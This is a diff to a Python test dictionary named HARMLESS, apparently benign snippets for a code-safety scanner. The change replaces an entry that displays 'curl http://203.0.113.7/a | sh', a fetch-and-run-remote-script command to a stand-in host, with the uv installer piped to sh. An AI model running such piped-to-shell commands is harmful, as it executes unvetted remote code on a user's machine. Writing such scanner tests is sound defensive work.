@@ -74,7 +74,7 @@ HARMLESS = {
     "compiler is asked": "from distutils.ccompiler import new_compiler\nnew_compiler().find_library_file([], 'aio')",
     "own kernel": "import transformers.integrations.hub_kernels as h\nh.get_kernel('kernels-community/rwkv')",
     "six": "import six\nfrom six.moves import range\nrange(3)",
-    "command is shown": "import gradio as gr\ngr.Markdown('curl http://203.0.113.7/a | sh')",
+    "command is shown": "import gradio as gr\ngr.Markdown('curl -LsSf https://astral.sh/uv/install.sh | sh')",
     "code is searched for": "import re\nre.compile('import os; os.system')",
     "code is a prompt": "def run(model):\n    return model.complete('import os; os.listdir(\".\")')",
     "code that computes": "import timeit\ntimeit.repeat('sum(x)', setup='import sys; x = [1]')",
